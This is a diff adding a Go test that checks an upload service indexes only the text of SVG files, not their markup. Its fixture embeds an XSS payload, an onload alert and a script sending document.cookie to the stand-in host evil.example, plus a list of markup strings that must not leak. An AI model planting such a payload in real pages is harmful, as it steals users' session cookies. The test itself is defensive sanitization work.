@@ -382,3 +382,40 @@ func TestNoSniffEverywhere(t *testing.T) {
 		}
 	}
 }
+
+// SVG uploads are markup: their text is indexed, their markup (scripts included) never is.
+func TestSVGUploadIndexesTextOnly(t *testing.T) {
+	t.Parallel()
+	e := setup(t)
+	e.startWorker()
+	svg := `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>Returns flow</title>` +
+		`<script>fetch("https://evil.example/?c="+document.cookie)</script>` +
+		`<text x="1" y="2">Refunds reach your card within <tspan>five</tspan> working days.</text></svg>`
+	for _, c := range []struct{ name, fileType string }{{"flow.svg", ""}, {"flow.txt", "text"}} {
+		r := e.upload(e.org, "Returns flow", c.fileType, c.name, []byte(svg))
+		expect(t, r, http.StatusAccepted)
+		var it struct {
+			ID       string `json:"id"`
+			FileType string `json:"file_type"`
+		}
+		r.data(&it)
+		if it.FileType != "svg" {
+			t.Errorf("%s: file_type %q, want svg", c.name, it.FileType)
+		}
+		if done := e.waitItem(e.org, it.ID); done.Status != "ready" {
+			t.Fatalf("%s: %+v", c.name, done)
+		}
+		all := ""
+		for _, ch := range e.chunks(it.ID) {
+			all += ch.Content + "\n"
+		}
+		if !strings.Contains(all, "Refunds reach your card within five working days.") {
+			t.Errorf("%s: text not indexed: %q", c.name, all)
+		}
+		for _, leak := range []string{"<script", "alert", "evil.example", "<svg", "onload"} {
+			if strings.Contains(all, leak) {
+				t.Errorf("%s: markup %q indexed: %q", c.name, leak, all)
+			}
+		}
+	}
+}
